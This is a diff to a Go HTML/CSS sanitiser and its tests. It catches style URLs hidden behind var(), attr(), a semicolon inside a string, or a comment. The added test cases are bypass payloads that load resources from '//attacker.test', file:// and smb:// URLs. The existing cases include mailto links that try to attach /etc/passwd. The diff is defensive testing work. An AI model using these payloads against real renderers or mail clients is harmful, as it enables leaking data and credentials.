@@ -257,6 +257,9 @@ func scriptableStyle(s string) string {
 			return "a script URL in a CSS function"
 		case strings.Contains(decl, `\`):
 			return "an escape"
+		case (strings.Contains(value, "url(") || strings.Contains(value, "image-set(")) &&
+			(strings.Contains(unquoted(value), "var(") || strings.Contains(unquoted(value), "attr(")):
+			return "a URL another declaration or an attribute gives"
 		}
 		for _, u := range cssURLs(value) {
 			if s := urlScheme(u); !inertScheme(s, u) {
@@ -265,6 +268,25 @@ func scriptableStyle(s string) string {
 		}
 	}
 	return ""
+}
+
+// unquoted is the CSS value v without its strings.
+func unquoted(v string) string {
+	var b strings.Builder
+	var quote byte
+	for i := 0; i < len(v); i++ {
+		switch c := v[i]; {
+		case quote != 0:
+			if c == quote {
+				quote = 0
+			}
+		case c == '"' || c == '\'':
+			quote = c
+		default:
+			b.WriteByte(c)
+		}
+	}
+	return b.String()
 }
 
 // cssURLs lists the URLs a CSS value loads: each url()'s and each string
@@ -296,7 +318,7 @@ func cssURLs(value string) []string {
 }
 
 // cssDeclarations splits an inline style at the ';' that end
-// declarations.
+// declarations (none in a string, a comment or parentheses).
 func cssDeclarations(s string) []string {
 	var out []string
 	var quote byte
@@ -306,6 +328,12 @@ func cssDeclarations(s string) []string {
 		case quote != 0:
 			if c == quote {
 				quote = 0
+			}
+		case strings.HasPrefix(s[i:], "/*"):
+			if end := strings.Index(s[i+2:], "*/"); end >= 0 {
+				i += end + 3
+			} else {
+				i = len(s)
 			}
 		case c == '"' || c == '\'':
 			quote = c
@@ -417,6 +445,11 @@ var inertPayloads = []string{
 	`<a href="&#47;/attacker.test/s">x</a>`,
 	`<img src="\/attacker.test/s.png">`,
 	`<p style="background:url('//attacker.test/s.png')">x</p>`,
+	// A URL where the sanitiser would not see it: after a ';' in a string
+	// or a comment, or in a custom property.
+	`<p style="background:image-set(&quot;x.png;&quot; 2x, &quot;//attacker.test/s.png&quot; 1x)">x</p>`,
+	`<p style="background:image-set(/*;*/'file://attacker.test/s.png' 1x)">x</p>`,
+	`<div style="--u:'//attacker.test/s.png'"><p style="background:image-set(var(--u) 1x)">x</p></div>`,
 }
 
 // inertDesign is data (a design's JSON) with its html blocks and display
@@ -659,6 +692,8 @@ func TestInertViolationsCatch(t *testing.T) {
 		`<p style="background:url('file://attacker.test/s.png')">x</p>`,
 		`<p style="background:image-set(&quot;smb://attacker.test/s.png&quot; 1x)">x</p>`,
 		`<!--[if mso]><v:fill src="file://attacker.test/s.png"></v:fill><![endif]-->`,
+		`<p style="background:image-set(/*;*/'//attacker.test/s.png' 1x)">x</p>`,
+		`<p style="background:image-set(var(--u) 1x)">x</p>`,
 		`<a href="mailto:a@attacker.test?subject=x&amp;Attach=/etc/passwd">x</a>`,
 		`<a href="mailto:a@attacker.test?subject=x;att%61chment=/etc/passwd">x</a>`,
 	} {
